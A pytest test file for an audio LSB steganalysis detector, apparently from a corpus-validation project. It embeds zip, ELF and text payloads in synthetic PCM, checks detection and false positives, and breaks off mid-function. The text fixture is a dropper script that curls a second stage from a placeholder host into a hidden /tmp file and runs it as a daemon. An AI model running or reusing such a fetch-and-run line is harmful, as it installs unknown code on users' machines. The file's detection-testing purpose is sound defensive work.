"""LSB steganalysis: carving payloads back out of the low bits, and estimating the replaced share."""

from __future__ import annotations

import base64
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import pytest

from audiomodel.stego import (
    FEATURE_NAMES,
    LsbAnalyzer,
    StegoReport,
    analyse_lsb,
    carving,
    statistics,
)
from audioval_corpus.stego_embed import embed_lsb

RATE = 44100


def music_like(
    seconds: float, *, channels: int = 2, level: float = 6000.0, seed: int = 0
) -> np.ndarray:
    """Notes made of decaying harmonics under attack/decay envelopes, plus ~1 LSB of noise.

    Quantised to int16 (frames, channels); band-limited like most real recordings, with a
    quiet passage where only the decaying tails and the noise remain.
    """
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    t = np.arange(n) / RATE
    out = np.zeros((n, channels))
    onset = 0.0
    while onset < seconds * 0.7:
        f0 = 110.0 * 2 ** (rng.integers(0, 36) / 12)
        start = int(onset * RATE)
        tt = t[start:] - onset
        env = (1 - np.exp(-tt / 0.01)) * np.exp(-tt / rng.uniform(0.2, 0.8))
        note = sum(
            np.sin(2 * np.pi * f0 * k * tt + rng.uniform(0, 6.3)) / k**1.5
            for k in range(1, 7)
            if f0 * k < 9000
        )
        pan = rng.uniform(0.3, 1.0, channels)
        out[start:] += (env * note)[:, None] * pan
        onset += rng.uniform(0.15, 0.5)
    out *= level / max(np.abs(out).max(), 1e-9)
    out += rng.normal(0.0, 1.0, out.shape)
    return np.clip(np.round(out), -32768, 32767).astype(np.int16)


def zip_payload() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("loader.txt", "stage two " * 200)
    return buf.getvalue()


def elf_payload() -> bytes:
    """An ELF64 little-endian executable header (e_ident, e_type EXEC, e_machine x86-64) + code."""
    ident = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    header = (
        ident + (2).to_bytes(2, "little") + (0x3E).to_bytes(2, "little") + (1).to_bytes(4, "little")
    )
    return header + bytes(range(256)) * 8


TEXT = (
    b"#!/bin/sh\n# fetch the second stage and run it\n"
    b"curl -s http://example.invalid/stage2 -o /tmp/.cache_update && chmod +x /tmp/.cache_update\n"
    b"/tmp/.cache_update --quiet --daemon\n"
)

PAYLOADS = {"zip": (zip_payload(), "zip"), "elf": (elf_payload(), "elf"), "text": (TEXT, "shebang")}


def codes(report: StegoReport) -> list[str]:
    return [f.code for f in report.findings]


def analyse(samples: np.ndarray, block: int = 65536) -> StegoReport:
    blocks = (samples[i : i + block] for i in range(0, samples.shape[0], block))
    return analyse_lsb(blocks, bits_per_sample=16, channels=samples.shape[1])


@pytest.fixture(scope="module")
def clean() -> np.ndarray:
    return music_like(6.0)


def test_clean_music_like_signal_has_no_finding(clean: np.ndarray) -> None:
    report = analyse(clean)
    assert report.findings == []
    assert report.estimated_fraction < 0.05
    assert report.features["analysed"] == 1.0
    assert tuple(report.features) == FEATURE_NAMES
    assert abs(report.features["ws_z"]) < 5


@pytest.mark.parametrize("payload_name", sorted(PAYLOADS))
@pytest.mark.parametrize("bits", [1, 2])
@pytest.mark.parametrize("order", ["lsb_first", "msb_first"])
def test_length_prefixed_payload_is_carved_with_its_stream_and_size(
    clean: np.ndarray, payload_name: str, bits: int, order: str
) -> None:
    payload, found = PAYLOADS[payload_name]
    stego = embed_lsb(
        clean, payload, bits=bits, bit_order=order, length_prefix=True, fraction=0.3, seed=3
    )
    report = analyse(stego)
    hits = [f for f in report.findings if f.code == "stego.lsb_payload"]
    assert hits, report.features
    evidence = hits[0].evidence
    assert evidence["found"] == found
    assert evidence["bits"] == bits
    assert evidence["bit_order"] == order
    assert evidence["channel"] == "interleaved"
    assert evidence["length_prefix"] == "le"
    assert evidence["payload_bytes"] == len(payload)
    assert evidence["byte_offset"] == 4


@pytest.mark.parametrize("payload_name", sorted(PAYLOADS))
def test_payload_without_prefix_in_one_channel_is_carved_from_that_channel(
    clean: np.ndarray, payload_name: str
) -> None:
    payload, found = PAYLOADS[payload_name]
    stego = embed_lsb(
        clean, payload, bits=1, bit_order="msb_first", interleaved=False, fraction=0.1
    )
    hits = [f for f in analyse(stego).findings if f.code == "stego.lsb_payload"]
    assert hits
    assert hits[0].evidence["found"] == found
    assert hits[0].evidence["channel"] == "0"
    assert hits[0].evidence["length_prefix"] == "none"
    assert hits[0].evidence["byte_offset"] == 0


def test_payload_after_random_bytes_is_found_by_its_signature(clean: np.ndarray) -> None:
    rng = np.random.default_rng(5)
    stego = embed_lsb(clean, rng.bytes(1000) + zip_payload(), bits=1)
    hits = [f for f in analyse(stego).findings if f.code == "stego.lsb_payload"]
    assert hits and hits[0].evidence["found"] == "zip"
    assert hits[0].evidence["byte_offset"] == 1000
    assert hits[0].evidence["sample_offset"] == 8000


def test_base64_payload_is_carved_as_base64(clean: np.ndarray) -> None:
    encoded = base64.b64encode(np.random.default_rng(3).bytes(600))
    hits = [
        f
        for f in analyse(embed_lsb(clean, encoded, bits=2)).findings
        if f.code == "stego.lsb_payload"
    ]
    assert hits and hits[0].evidence["found"] == "base64"


def test_letters_from_a_quiet_signals_low_bits_are_not_text() -> None:
    # What the 2 low bits of a quiet passage pack into (seen on real speech shifted by one
    # LSB): letters from a narrow range, no spaces, a few of the 64 base64 symbols.
    alphabet = np.frombuffer(b"eWUdpEuvTgVDFtw", dtype=np.uint8)
    run = np.random.default_rng(0).choice(alphabet, 200)
    assert carving._judge_text(run, run.tobytes(), 0) is None
    prose = np.frombuffer(TEXT * 2, dtype=np.uint8)
    assert carving._judge_text(prose, prose.tobytes(), 0) is not None


def test_random_payload_filling_a_quiet_signal_is_estimated_high() -> None:
    quiet = music_like(8.0, level=300.0, seed=2)
    stego = embed_lsb(quiet, np.random.default_rng(1).bytes(64), fraction=1.0, seed=9)
    report = analyse(stego)
    assert report.estimated_fraction > 0.8
    assert "stego.lsb_statistical" in codes(report)
    assert "stego.lsb_payload" not in codes(report)  # random bytes have nothing to carve
    statistical = next(f for f in report.findings if f.code == "stego.lsb_statistical")
    assert statistical.evidence["likely_bits"] == 1


def test_half_filled_random_payload_is_estimated_near_half() -> None:
    quiet = music_like(8.0, level=300.0, seed=4)
    report = analyse(embed_lsb(quiet, b"", fraction=0.5, seed=2))
    assert 0.35 < report.estimated_fraction < 0.65
    assert "stego.lsb_statistical" in codes(report)


def test_two_bit_random_payload_is_reported_as_two_bits() -> None:
    quiet = music_like(8.0, level=300.0, seed=6)
    report = analyse(embed_lsb(quiet, b"", bits=2, fraction=1.0, seed=2))
    statistical = [f for f in report.findings if f.code == "stego.lsb_statistical"]
    assert statistical and statistical[0].evidence["likely_bits"] == 2
    assert report.features["bit1_rate"] > 0.5


def test_random_payload_in_one_channel_is_estimated_as_half_the_low_bits() -> None:
    quiet = music_like(8.0, level=300.0, seed=7)
    report = analyse(embed_lsb(quiet, b"", interleaved=False, fraction=1.0, seed=4))
    assert 0.35 < report.estimated_fraction < 0.65
    assert report.features["prefix_channel"] == 0.0
    assert "stego.lsb_statistical" in codes(report)


def test_constant_dc_offset_before_the_music_is_not_taken_for_embedding() -> None:
    # A tracker render that holds one even DC value for a second: the interpolator must
    # predict a constant exactly, or its tiny residual correlates with the constant parity.
    music = music_like(6.0, channels=1, seed=3)
    held = np.full((RATE, 1), -1378, dtype=np.int16)
    report = analyse(np.concatenate([held, music]))
    assert report.findings == []
    assert report.features["prefix_z"] < 5


def test_slow_sub_lsb_steps_within_an_lsb_pair_are_not_flagged() -> None:
    # A tiny slow signal held between 0 and 1 (one LSB pair) for runs of 5-30 samples: parity
    # follows the residual at every step by itself, so z is huge, but the replaced-bit rate it
    # implies stays far below that of replaced bits.
    runs = np.random.default_rng(12).integers(5, 30, 40000)
    steps = np.repeat(np.arange(runs.size) % 2, runs)[: 6 * RATE].astype(np.int16)
    report = analyse(steps[:, None])
    assert report.features["prefix_z"] > 50
    assert report.features["prefix_rate"] < 0.35
    assert report.findings == []


def test_merging_segments_of_a_long_file_keeps_the_estimates(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    stego = embed_lsb(music_like(8.0, level=300.0, seed=5), b"", fraction=0.5, seed=8)
    fine = analyse(stego)
    monkeypatch.setattr(statistics, "_MAX_SEGMENTS", 8)
    coarse = analyse(stego)
    assert coarse.features["ws_z"] == pytest.approx(fine.features["ws_z"], rel=1e-9)
    assert coarse.estimated_fraction == pytest.approx(fine.estimated_fraction, abs=0.1)
    assert codes(coarse) == codes(fine)


@pytest.mark.parametrize("share", [0.22, 0.35])
def test_a_dense_master_driven_into_clipping_is_not_taken_for_embedding(share: float) -> None:
    """Dense sound up to 8 kHz at 22.05 kHz, clipped on ``share`` of its samples: short flat
    tops at +32767 (odd) and -32768 (even), so the parity follows the side of the clip, and so
    does the interpolator's overshoot. It read as z = 30 / 82 before clipped samples were left
    out (a clipped dev-corpus clip as z = 42)."""
    import scipy.signal

    rng = np.random.default_rng(3)
    b, a = scipy.signal.butter(8, 8000 / 11025)
    dense = scipy.signal.lfilter(b, a, rng.normal(0, 1, (8 * 22050, 1)), axis=0)
    level = np.quantile(np.abs(dense), 1 - share)
    clipped = np.clip(np.round(dense / level * 32767), -32768, 32767).astype(np.int16)
    report = analyse(clipped)
    assert "stego.lsb_statistical" not in codes(report)
    assert report.features["prefix_z"] < statistics._Z_FLAG


def test_replaced_bits_in_a_clipped_master_are_still_seen() -> None:
    loud = music_like(8.0, level=32000.0, seed=4).astype(np.float64) * 4
    clipped = np.clip(np.round(loud), -32768, 32767).astype(np.int16)
    assert np.mean(np.abs(clipped.astype(np.int32)) >= 32767) > 0.1  # the premise: it clips
    stego = embed_lsb(clipped, b"", fraction=1.0, seed=2)
    assert "stego.lsb_statistical" in codes(analyse(stego))


@pytest.mark.parametrize("gain_db", [6.0, 12.0])
def test_lsb_determinism_sees_a_low_bit_that_follows_the_level(gain_db: float) -> None:
    """+6.00 dB is 1.995x: rounding leaves the low bit a function of the level (it flips every
    ~200 steps). Replacing a share f of such low bits brings the measure down to about 1 - f;
    a recording's own low bit, or a payload's, measures about 0."""
    cover = music_like(6.0, level=8000.0, seed=5).astype(np.float64)
    gained = np.clip(np.round(cover * 10 ** (gain_db / 20)), -32768, 32767).astype(np.int16)
    assert analyse(gained).features["lsb_determinism"] > 0.9
    half = analyse(embed_lsb(gained, b"", fraction=0.5, seed=4)).features["lsb_determinism"]
    assert 0.35 < half < 0.65
    assert (
        abs(analyse(embed_lsb(gained, b"", fraction=1.0, seed=4)).features["lsb_determinism"]) < 0.1
    )
    assert abs(analyse(music_like(6.0, seed=5)).features["lsb_determinism"]) < 0.2


def test_a_parity_signal_the_low_bits_cannot_carry_is_not_flagged() -> None:
    """The flag rule: an estimate of f replaced needs a determinism of at most ~1 - f. A strong
    parity signal over a low bit that follows the level (dev-corpus clips with +6.00 dB of
    digital gain read z = 13-69, rate 1.0, determinism 0.95-1.0) is the gain's, not a payload's."""
    stats = {"prefix_z": 40.0, "prefix_rate": 1.0, "sublsb_share": 0.0}
    assert statistics._statistically_replaced(stats, 0.9, determinism=0.0)
    assert statistics._statistically_replaced(stats, 0.9, determinism=0.5)  # half replaced
    assert not statistics._statistically_replaced(stats, 0.9, determinism=0.97)
    assert not statistics._statistically_replaced(stats, 0.65, determinism=1.0)


def test_a_small_parity_signal_on_a_low_bit_that_follows_the_level_is_not_flagged() -> None:
    """A noiseless synthesiser's exact levels keep one parity each (determinism 1.0): a chiptune
    plug-in's 24-bit output read z = 11 at rate 1.0 in 17 % of one channel (estimated 8 %).
    Replacing even 8 % of the low bits would have brought the determinism to ~0.92."""
    stats = {"prefix_z": 11.4, "prefix_rate": 1.0, "sublsb_share": 0.0}
    assert not statistics._statistically_replaced(stats, 0.083, determinism=1.0)
    assert statistics._statistically_replaced(stats, 0.083, determinism=0.9)


def rails_lowered_under_dither(seconds: float, seed: int) -> np.ndarray:
    """Slow noise clipped hard at its rails, lowered to +-38.5 LSB and stored under TPDF
    dither (as sox reads brown noise beyond full scale and a fader lowers it)."""
    import scipy.signal

    rng = np.random.default_rng(seed)
    n = int(seconds * 48000)
    b, a = scipy.signal.butter(2, 200, fs=48000)
    slow = scipy.signal.lfilter(b, a, np.cumsum(rng.normal(0, 1, (n, 2)), axis=0), axis=0)
    slow -= slow.mean(axis=0)
    rails = np.clip(slow / (0.1 * np.abs(slow).max()), -1.0, 1.0) * 38.5
    dither = rng.uniform(-0.5, 0.5, rails.shape) + rng.uniform(-0.5, 0.5, rails.shape)
    return np.round(rails + dither).astype(np.int16)


def test_dithered_rails_lowered_off_the_code_grid_are_not_taken_for_embedding() -> None:
    """A rail at 38.5 LSB under dither is 38 or 39 (a value pair, r c = +0.5 as replaced bits
    give), the rail at -38.5 is -39 or -38 (two pairs, -0.5, which replacement never gives):
    the plateaus' parity is the cover's, and they are left out."""
    quiet = rails_lowered_under_dither(8.0, seed=3)
    assert np.mean(np.abs(quiet) >= 37) > 0.5  # the premise: it stands on its rails
    assert "stego.lsb_statistical" not in codes(analyse(quiet))


def test_replaced_bits_under_dithered_rails_are_still_seen() -> None:
    """Replaced bits make the -38.5 rail's codes -40..-37, whose parity reads +p/2 as
    everywhere else: no plateau reads the cover's negative sign, and the plateaus count."""
    stego = embed_lsb(rails_lowered_under_dither(8.0, seed=3), b"", fraction=1.0, seed=2)
    assert "stego.lsb_statistical" in codes(analyse(stego))


def test_clean_quiet_signal_is_not_flagged() -> None:
    report = analyse(music_like(8.0, level=300.0, seed=2))
    assert report.findings == []
    assert report.estimated_fraction < 0.05


def test_streaming_in_blocks_gives_the_same_report_as_one_block(clean: np.ndarray) -> None:
    stego = embed_lsb(clean, zip_payload(), bits=2, fraction=0.6, length_prefix=True, seed=1)
    whole = analyse(stego, block=stego.shape[0])
    for block in (777, 4096, 65536 + 13):
        parts = analyse(stego, block=block)
        assert [f.to_dict() for f in parts.findings] == [f.to_dict() for f in whole.findings]
        assert parts.estimated_fraction == pytest.approx(whole.estimated_fraction, abs=1e-9)
        assert parts.features.keys() == whole.features.keys()
        for key, value in whole.features.items():
            assert parts.features[key] == pytest.approx(value, rel=1e-6, abs=1e-9), key


def test_float_blocks_are_skipped() -> None:
    report = analyse_lsb([np.zeros((1000, 2), dtype=np.float32)], bits_per_sample=16, channels=2)
    assert report.findings == []
    assert report.features["analysed"] == 0.0
    assert tuple(report.features) == FEATURE_NAMES


def test_eight_bit_pcm_is_carved_and_measured() -> None:
    samples = np.random.default_rng(0).integers(-40, 40, (2 * RATE, 1)).astype(np.int16)
    stego8 = embed_lsb(samples, zip_payload(), bits=1)
    left = stego8 << 8  # soundfile's int16 for 8-bit PCM
    report = analyse_lsb([left], bits_per_sample=8, channels=1)
    assert "stego.lsb_payload" in codes(report)
    assert report.features["statistics"] == 1.0


def test_24_bit_left_justified_payload_is_carved() -> None:
    noise = np.random.default_rng(1).integers(0, 256, (3 * RATE, 2))
    base = (music_like(3.0).astype(np.int32) * 256 + noise).astype(np.int32)
    # Embed in the 24-bit values' low bits: do it on their low 16 bits, which hold the LSB.
    low = (base & 0xFFFF).astype(np.uint16).view(np.int16)
    stego_low = embed_lsb(low, zip_payload(), bits=1).view(np.uint16).astype(np.int32)
    stego = ((base & ~0xFFFF) | stego_low).astype(np.int32)
    report = analyse_lsb([stego << 8], bits_per_sample=24, channels=2)
    assert "stego.lsb_payload" in codes(report)
    right = analyse_lsb([stego], bits_per_sample=24, channels=2, justify="right")
    assert "stego.lsb_payload" in codes(right)


def test_random_low_bits_are_not_a_payload() -> None:
    rng = np.random.default_rng(11)
    for _ in range(5):
        noise = rng.integers(-2000, 2000, (RATE, 2)).astype(np.int16)
        assert "stego.lsb_payload" not in codes(analyse(noise))


def loud_clip(seconds: float, *, channels: int = 2, seed: int = 0) -> np.ndarray:
    """Full-band sound as loud as a hi-hat or a crash (low bits as random as a payload's)."""
    rng = np.random.default_rng(seed)
    return rng.normal(0, 4000, (int(seconds * RATE), channels)).astype(np.int16)


@pytest.mark.parametrize("bits", [1, 2])
@pytest.mark.parametrize("order", ["lsb_first", "msb_first"])
def test_length_header_before_random_bytes_in_a_short_loud_clip_is_found(
    bits: int, order: str
) -> None:
    """An encrypted payload with the length its loader needs: too few samples for statistics,
    but the header is there. The clean clip shows nothing."""
    cover = loud_clip(1.0)
    assert analyse(cover).findings == []
    payload = np.random.default_rng(5).bytes(4000)
    stego = embed_lsb(cover, payload, bits=bits, fraction=0.5, length_prefix=True, bit_order=order)
    report = analyse(stego)
    assert codes(report) == ["stego.lsb_length_header"]
    (header,) = report.findings
    assert header.evidence["payload_bytes"] == 4000
    assert header.evidence["length_prefix"] == "le"
    assert header.evidence["stream"] == f"b{bits},{order},interleaved"
    assert 0 < header.evidence["chance"] <= 1e-3


def test_a_file_opening_in_silence_does_not_spell_a_length_header() -> None:
    """Digital silence, then an attack, then loud sound: the opening of a VariBreaks drum hit
    in the dev corpus, whose low 2 bits read MSB-first spell 407 (big-endian), a length that
    fits, before random-looking bytes. Not a header: the samples that carry it are silent."""
    opening = [0] * 11 + [1, 6, 9, 9, 15, 22, 31, 40, 51, 64, 79, 96, 114, 134, 155, 178, 203]
    loud = loud_clip(0.5, channels=1, seed=2)[:, 0]
    clip = np.concatenate([np.array(opening, np.int16), loud])[:, None]
    assert "stego.lsb_length_header" not in codes(analyse(clip))


def test_a_long_file_is_not_judged_by_a_length_header_alone() -> None:
    """Over a minute of random low bits, a fitting length turns up by chance too often (the
    chance grows with the capacity); the statistics take over there."""
    stego = embed_lsb(
        loud_clip(60.0, seed=3),
        np.random.default_rng(6).bytes(1000),
        fraction=0.01,
        length_prefix=True,
    )
    assert "stego.lsb_length_header" not in codes(analyse(stego))


def test_wrong_block_shape_is_rejected() -> None:
    analyzer = LsbAnalyzer(bits_per_sample=16, channels=2)
    with pytest.raises(ValueError, match="frames, 2"):
        analyzer.update(np.zeros((10, 3), dtype=np.int16))


class TestEmbedLsb:
    def test_only_the_low_bits_of_the_covered_share_change(self, clean: np.ndarray) -> None:
        stego = embed_lsb(clean, b"payload", bits=2, fraction=0.25)
        assert stego is not clean and stego.dtype == np.int16 and stego.shape == clean.shape
        assert np.array_equal(stego >> 2, clean >> 2)
        flat_clean, flat = clean.reshape(-1), stego.reshape(-1)
        covered = round(0.25 * flat.size)
        assert np.array_equal(flat[covered:], flat_clean[covered:])
        assert np.count_nonzero(flat[:covered] != flat_clean[:covered]) > covered // 2

    def test_channel_zero_only_leaves_other_channels_alone(self, clean: np.ndarray) -> None:
        stego = embed_lsb(clean, b"x" * 100, interleaved=False)
        assert np.array_equal(stego[:, 1], clean[:, 1])
        assert not np.array_equal(stego[:, 0], clean[:, 0])

    @pytest.mark.parametrize("order", ["lsb_first", "msb_first"])
    @pytest.mark.parametrize("bits", [1, 2, 3])
    def test_bits_read_back_in_order(self, clean: np.ndarray, bits: int, order: str) -> None:
        payload = bytes(range(1, 200))
        stego = embed_lsb(clean, payload, bits=bits, bit_order=order, length_prefix=True)
        low = stego.reshape(-1).view(np.uint16) & ((1 << bits) - 1)
        shifts = np.arange(bits) if order == "lsb_first" else np.arange(bits - 1, -1, -1)
        stream = ((low[:, None] >> shifts) & 1).astype(np.uint8).ravel()
        data = np.packbits(stream, bitorder="little" if order == "lsb_first" else "big").tobytes()
        assert data[:4] == len(payload).to_bytes(4, "little")
        assert data[4 : 4 + len(payload)] == payload

    def test_repeat_fill_repeats_the_message(self, clean: np.ndarray) -> None:
        stego = embed_lsb(clean, b"ABCD", fraction=0.01, fill="repeat")
        data = np.packbits(stego.reshape(-1)[: 8 * 64] & 1, bitorder="little").tobytes()
        assert data == b"ABCD" * 16

    def test_bad_arguments_raise(self, clean: np.ndarray) -> None:
        with pytest.raises(ValueError):
            embed_lsb(clean.astype(np.int32), b"x")
        with pytest.raises(ValueError):
            embed_lsb(clean, b"x", bits=0)
        with pytest.raises(ValueError):
            embed_lsb(clean, b"x", fraction=1.5)
        with pytest.raises(ValueError):
            embed_lsb(clean, b"x", bit_order="middle")


# -- stored wider than made, 8-bit PCM, LSB matching, steghide ----------------------------------


def lsb_match(values: np.ndarray, share: float, seed: int = 1) -> np.ndarray:
    """LSB matching: the first ``share`` of the interleaved samples carry random bits; where a
    sample's low bit differs, it moves by +-1 (sign at random)."""
    rng = np.random.default_rng(seed)
    flat = values.astype(np.int64).reshape(-1).copy()
    count = int(share * flat.size)
    bits = rng.integers(0, 2, count)
    step = rng.choice(np.array([-1, 1]), count)
    flat[:count] += np.where((flat[:count] & 1) != bits, step, 0)
    return flat.reshape(values.shape)


def analyse_wide(values: np.ndarray, bits: int, block: int = 65536) -> StegoReport:
    """Analyse right-justified integers as ``bits``-bit PCM, left-justified as soundfile reads."""
    dtype = np.int16 if bits <= 16 else np.int32
    stored = (values.astype(np.int64) << (8 * dtype().itemsize - bits)).astype(dtype)
    blocks = (stored[i : i + block] for i in range(0, stored.shape[0], block))
    return analyse_lsb(blocks, bits_per_sample=bits, channels=values.shape[1])


def test_padded_24_bit_clean_is_not_flagged(clean: np.ndarray) -> None:
    report = analyse_wide(clean.astype(np.int64) << 8, 24)
    assert codes(report) == []
    assert report.features["lattice_bits"] == 0.0


@pytest.mark.parametrize("method", ["replace", "match"])
def test_payload_in_the_empty_low_byte_of_padded_24_bit_is_flagged(
    clean: np.ndarray, method: str
) -> None:
    padded = clean.astype(np.int64) << 8
    share = 0.5
    if method == "replace":
        rng = np.random.default_rng(3)
        flat = padded.reshape(-1).copy()
        count = int(share * flat.size)
        flat[:count] |= rng.integers(0, 2, count)
        stego = flat.reshape(padded.shape)
    else:
        stego = lsb_match(padded, share)
    report = analyse_wide(stego, 24)
    assert "stego.lsb_below_noise_floor" in codes(report)
    found = next(f for f in report.findings if f.code == "stego.lsb_below_noise_floor")
    assert found.evidence["empty_low_bits"] == 8
    # The payload estimate is within a factor 1.25 of the truth (random bits).
    true_bytes = share * padded.size / 8
    assert true_bytes / 1.25 < float(found.evidence["estimated_payload_bytes"]) < true_bytes * 1.25


def test_payload_in_12_bit_audio_stored_as_16_bit_is_flagged(clean: np.ndarray) -> None:
    coarse = (clean.astype(np.int64) >> 4) << 4
    assert codes(analyse_wide(coarse, 16)) == []
    report = analyse_wide(lsb_match(coarse, 0.25), 16)
    assert "stego.lsb_below_noise_floor" in codes(report)


def ten_bit(clean16: np.ndarray) -> np.ndarray:
    """The sound cut to 10 bits, stored as 16: a lattice of 64."""
    return (clean16.astype(np.int64) >> 6) << 6


def tpdf(shape: tuple[int, ...], width: float, seed: int) -> np.ndarray:
    """Triangular dither on (-width, width): two uniform draws summed."""
    rng = np.random.default_rng(seed)
    return (rng.uniform(-0.5, 0.5, shape) + rng.uniform(-0.5, 0.5, shape)) * width


def test_random_low_bits_in_10_bit_audio_padded_to_16_are_flagged(clean: np.ndarray) -> None:
    cover = ten_bit(clean)
    assert codes(analyse_wide(cover, 16)) == []
    stego = cover | np.random.default_rng(6).integers(0, 2, cover.shape)
    report = analyse_wide(stego, 16)
    found = next(f for f in report.findings if f.code == "stego.lsb_below_noise_floor")
    assert found.evidence["empty_low_bits"] == 6


def test_dither_as_wide_as_the_coarse_step_is_not_a_lattice_payload(clean: np.ndarray) -> None:
    """TPDF dither spanning +-1 step of the 10-bit lattice, rounded to 16 bits, leaves
    residues across the whole step: sound, not a payload."""
    dithered = np.rint(ten_bit(clean) + tpdf(clean.shape, 64.0, seed=7)).astype(np.int64)
    assert "stego.lsb_below_noise_floor" not in codes(analyse_wide(dithered, 16))


@pytest.mark.xfail(
    strict=True,
    reason="known false flag (stego/lattice.py docstring): TPDF dither at the 16-bit LSB moves "
    "lattice samples by -1/+1 with chance 1/8 each, like LSB matching at half capacity or "
    "steghide near full capacity",
)
def test_10_bit_audio_rendered_to_16_bits_with_tpdf_dither_is_not_flagged(
    clean: np.ndarray,
) -> None:
    dithered = np.rint(ten_bit(clean) + tpdf(clean.shape, 1.0, seed=8)).astype(np.int64)
    assert "stego.lsb_below_noise_floor" not in codes(analyse_wide(dithered, 16))


def test_a_few_levels_on_a_lattice_by_chance_are_not_a_lattice() -> None:
    """A square wave's two levels (here multiples of 16) with TPDF dither at the 16-bit LSB,
    and a hard-clipped sine whose rails are multiples of 8: the on-lattice samples are a few
    levels, which sit on a lattice by chance; 10-bit sound with the same dither is flagged
    (its many levels define the lattice; the known false flag above), so the exemption is the
    levels' count, not the dither."""
    rng = np.random.default_rng(9)
    t = np.arange(RATE * 4) / RATE
    square = np.where(np.sin(2 * np.pi * 441 * t) >= 0, 4096.0, -4096.0)
    dithered = np.rint(square + tpdf(square.shape, 1.0, seed=10)).astype(np.int64)
    assert "stego.lsb_below_noise_floor" not in codes(analyse_wide(dithered[:, None], 16))
    sine = np.clip(np.rint(2.1 * 8000 * np.sin(2 * np.pi * 997 * t)), -8000, 8000)
    assert "stego.lsb_below_noise_floor" not in codes(
        analyse_wide(sine.astype(np.int64)[:, None], 16)
    )
    ten = (np.rint(rng.normal(0, 3000, RATE * 4)).astype(np.int64) >> 6) << 6
    ten_dithered = np.rint(ten + tpdf(ten.shape, 1.0, seed=11)).astype(np.int64)
    assert "stego.lsb_below_noise_floor" in codes(analyse_wide(ten_dithered[:, None], 16))


def test_quiet_recording_near_zero_is_not_a_lattice() -> None:
    """Samples within +-1 of zero are a quiet recording, not a lattice with a payload."""
    rng = np.random.default_rng(5)
    quiet = np.clip(np.round(rng.normal(0, 0.6, (RATE * 4, 2))), -32768, 32767)
    report = analyse_wide(quiet.astype(np.int64), 16)
    assert "stego.lsb_below_noise_floor" not in codes(report)


def eight_bit(clean16: np.ndarray) -> np.ndarray:
    return np.clip(np.round(clean16 / 256.0 * 4), -128, 127).astype(np.int64)  # +12 dB in 8 bits


def test_clean_8_bit_is_not_flagged(clean: np.ndarray) -> None:
    report = analyse_wide(eight_bit(clean), 8)
    assert codes(report) == []
    assert report.features["statistics"] == 1.0


def test_lsb_replacement_in_8_bit_pcm_is_flagged_with_its_share(clean: np.ndarray) -> None:
    cover = eight_bit(clean)
    rng = np.random.default_rng(9)
    flat = cover.reshape(-1).copy()
    count = flat.size // 2
    flat[:count] = (flat[:count] & ~1) | rng.integers(0, 2, count)
    report = analyse_wide(flat.reshape(cover.shape), 8)
    assert "stego.lsb_statistical" in codes(report)
    assert 0.25 < report.estimated_fraction < 0.8


def test_lsb_matching_raises_the_quantisation_floor_of_8_bit_pcm(clean: np.ndarray) -> None:
    """+-1 changes add noise at the floor: measured (``floor_power``), not flagged on its own
    (a dithered cover has the same floor; see docs/steganalysis.md)."""
    cover = eight_bit(clean)
    before = analyse_wide(cover, 8).features
    after = analyse_wide(lsb_match(cover, 1.0), 8).features
    assert before["floor_blocks"] > 50
    # Matching every sample changes half of them by +-1: +0.5 LSB^2 before the interpolator's
    # noise gain (> 1).
    assert after["floor_power"] - before["floor_power"] > 0.4


STEGHIDE = shutil.which("steghide")


def steghide_embed(cover: np.ndarray, bits: int, payload: bytes, tmp_path: Path) -> np.ndarray:
    """Run the real steghide on ``cover`` (right-justified ints) as a ``bits``-bit WAV."""
    import soundfile as sf

    subtype = {16: "PCM_16", 24: "PCM_24"}[bits]
    stored = (cover.astype(np.int64) << (32 - bits)).astype(np.int32)
    sf.write(tmp_path / "cover.wav", stored, RATE, subtype=subtype)
    (tmp_path / "payload").write_bytes(payload)
    subprocess.run(
        [
            "steghide",
            "embed",
            "-cf",
            "cover.wav",
            "-ef",
            "payload",
            "-sf",
            "stego.wav",
            "-p",
            "pass",
            "-f",
            "-q",
        ],
        cwd=tmp_path,
        check=True,
    )
    back, _ = sf.read(tmp_path / "stego.wav", dtype="int32", always_2d=True)
    return back.astype(np.int64) >> (32 - bits)


@pytest.mark.skipif(STEGHIDE is None, reason="steghide is not installed (scripts/setup.sh)")
def test_steghide_in_16_bit_audio_padded_to_24_is_flagged_with_its_size(
    clean: np.ndarray, tmp_path: Path
) -> None:
    cover = clean[: RATE * 2].astype(np.int64) << 8  # 2 s: steghide's matching is slow
    payload = np.random.default_rng(4).integers(0, 256, 2000, dtype=np.uint8).tobytes()
    stego = steghide_embed(cover, 24, payload, tmp_path)
    assert not np.array_equal(stego, cover)
    assert codes(analyse_wide(cover, 24)) == []
    report = analyse_wide(stego, 24)
    found = next(f for f in report.findings if f.code == "stego.lsb_below_noise_floor")
    # steghide carries one bit per two samples and changes one in two: the off-lattice count
    # gives its payload (plus its own header, after compression) within a factor of 2.
    estimate = float(found.evidence["estimated_payload_bytes"])
    assert len(payload) / 2 < estimate < len(payload) * 2


@pytest.mark.skipif(STEGHIDE is None, reason="steghide is not installed (scripts/setup.sh)")
def test_steghide_in_12_bit_audio_stored_as_16_bit_is_flagged(
    clean: np.ndarray, tmp_path: Path
) -> None:
    cover = (clean[: RATE * 2].astype(np.int64) >> 4) << 4
    payload = np.random.default_rng(5).integers(0, 256, 1500, dtype=np.uint8).tobytes()
    stego = steghide_embed(cover, 16, payload, tmp_path)
    assert "stego.lsb_below_noise_floor" in codes(analyse_wide(stego, 16))


def test_gain_near_a_power_of_two_on_lattice_audio_is_not_a_payload(clean: np.ndarray) -> None:
    """-30 dB of 8-bit sound padded to 16 bits is x 8.09 per 8-bit step: samples land within
    +-1..3 of a lattice of 8, but a whole value at a time, not sample by sample."""
    quiet8 = np.round(clean / 256.0 / 2).astype(np.int64)  # 8-bit sound, +-12
    gained = np.round(quiet8 * 256 * 10 ** (-30 / 20)).astype(np.int64)
    residue = gained % 8
    near = np.isin(residue, (1, 7)).mean()
    assert near > 0.01 and np.isin(residue, (2, 3, 4, 5, 6)).mean() < near / 50  # on +-1 of 8
    report = analyse_wide(gained, 16)
    assert "stego.lsb_below_noise_floor" not in codes(report)


def gained_24_bit(clean16: np.ndarray, dither: float = 0.0, seed: int = 0) -> np.ndarray:
